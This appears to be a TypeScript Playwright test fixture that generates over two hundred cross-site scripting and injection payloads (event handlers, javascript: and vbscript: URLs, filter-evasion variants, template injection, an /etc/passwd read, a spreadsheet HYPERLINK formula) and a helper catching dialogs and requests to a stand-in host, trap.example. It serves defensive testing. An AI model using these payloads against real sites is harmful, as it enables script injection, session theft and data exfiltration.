// Texts that try to run a script wherever a page takes them for markup: tags, attributes, addresses, encodings.
import type { Page } from '@playwright/test'

const run = 'window.ran=1'
const trap = 'https://trap.example/x'

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onbegin',
]
const tags = [
  'img src=x',
  'svg',
  'body',
  'iframe src=about:blank',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'marquee',
  'math',
  'object data=x',
  'embed src=x',
  'select autofocus',
  'textarea autofocus',
  'a href=# tabindex=0',
]
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\u00adscript:',
  ' javascript:',
  'data:text/html,',
  'vbscript:',
]
const whole = [
  `<script>${run}</script>`,
  `<script src="${trap}"></script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<style>@import '${trap}';</style>`,
  `<link rel=stylesheet href=${trap}>`,
  `<meta http-equiv=refresh content="0;url=${trap}">`,
  `<base href=${trap}>`,
  `<form action=${trap}><button>x</button></form>`,
  `<img src=${trap}>`,
  `<template><script>${run}</script></template>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `[x](javascript:${run})`,
  `]#read("/etc/passwd")[`,
  `#eval("${run}")`,
  `=HYPERLINK("${trap}","x")`,
]

/** More than two hundred, each a line of text. */
export const payloads: readonly string[] = [
  ...whole,
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}="${run}">`)),
  ...tags.slice(0, 10).map((tag) => `<${tag}/onerror=${run}//`),
  ...schemes.flatMap((scheme) => [
    `<a href="${scheme}${run}">x</a>`,
    `<iframe src="${scheme}${run}"></iframe>`,
    `<form action="${scheme}${run}"><button autofocus>x</button></form>`,
    `<a xlink:href="${scheme}${run}">x</a>`,
  ]),
  ...['"', "'", '`', ''].flatMap((quote) => handlers.map((handler) => `${quote} ${handler}=${quote}${run}`)),
]

const trapHost = new URL(trap).host

/** What a text made the page do from now on: questions, requests to a strange host. */
export function trapped(page: Page): string[] {
  const caught: string[] = []
  page.on('dialog', (dialog) => {
    caught.push(dialog.message())
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    if (request.url().includes(trapHost)) caught.push(request.url())
  })
  return caught
}

export const hostileAddresses = schemes.map((scheme) => `${scheme}${run}`)
